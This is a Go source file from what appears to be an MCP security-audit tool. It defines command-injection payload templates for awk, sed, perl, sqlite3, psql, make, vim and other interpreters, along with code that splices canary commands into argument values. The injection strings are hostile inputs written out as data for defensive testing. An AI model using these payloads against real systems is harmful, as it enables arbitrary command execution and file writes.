package attack

import (
	"path"
	"slices"
	"strings"

	"github.com/mcpaudit/mcpaudit/runner/inputs"
)

// languages are, by the names of programs, ways to write a value that is a part of what such a
// program reads as a language of its own, so that it runs a command, or writes a file: "{}" stands for
// the honest value, "!" and "%" for the command, with no slash in the second, "@" for the file.
var languages = map[string][]string{
	"awk":     {`system("!")`, `{},system("!")`, `{};system("!")`, `{}}BEGIN{system("!")}{`, `{})system("!");(`, `"!"|getline`, `{}";system("!");"`},
	"sed":     {"s/.*/%/e", "1e %", "s/a/b/w @", "{};1e %", "{}\n1e %", "{}/;1e %;s/a/b", "{}e", "w @"},
	"bc":      {"{}\n!%\n"},
	"dc":      {"!%"},
	"ed":      {"!%", "{}\n!%"},
	"gnuplot": {`system("!")`, `{};system("!")`, "{}\n!%"},
	"m4":      {"syscmd(`!')", "{}syscmd(`!')"},
	"make":    {"$(shell !)", "{}$(shell !)"},
	"perl":    {`system("!")`, `{};system("!")`, `{},system("!")`, `{}";system("!");"`},
	"psql":    {`\! !`, "{}\n\\! !\n"},
	"ruby":    {`system("!")`, `{};system("!")`, "{}#{`!`}"},
	"sqlite3": {".shell !", "{}\n.shell !\n", ".output @"},
	"tclsh":   {"exec !", "{}[exec !]"},
	"vim":     {"!%", "{}|!%"},
}

// dialects are other names of those programs.
var dialects = map[string]string{"gawk": "awk", "mawk": "awk", "nawk": "awk", "gsed": "sed", "gmake": "make", "vi": "vim", "ex": "vim", "red": "ed"}

// maxLanguages is at how many places of one target they are tried.
const maxLanguages = 3

// languageSteps are the attempts on values that stood in a word of a program that has a language.
func languageSteps(fields []field, seen Seen) (all []step) {
	places := 0
	for _, f := range fields {
		name := seen.reader(f)
		if name == "" || places == maxLanguages {
			continue
		}
		places++
		for _, pattern := range languages[name] {
			all = append(all, step{family: Command, form: spoken(name, pattern), field: f})
		}
	}
	return all
}

// reader is the program with a language in a word of which an honest value stood; "" for none. It
// is in words that are no path, for a value that names the file to work on is read by nobody.
func (s Seen) reader(f field) string {
	value := f.core()
	if value == "" || !f.text {
		return ""
	}
	for _, words := range s.Started {
		name := path.Base(words[0])
		if other, known := dialects[name]; known {
			name = other
		}
		if languages[name] != nil && slices.ContainsFunc(words[1:], func(word string) bool { return strings.Contains(word, value) && !path.IsAbs(word) }) {
			return name
		}
	}
	return ""
}

func spoken(name, pattern string) form {
	return form{name: "in the language of " + name, write: func(f field, m inputs.Mark, _ int) string {
		return f.before + strings.NewReplacer("{}", f.core(), "!%", "!env "+m.Injected(), "%", "env "+m.Injected(), `\! !`, `\! `+m.Command(), "!", m.Command(), "@", m.OutsideFile()).Replace(pattern) + f.behind
	}}
}
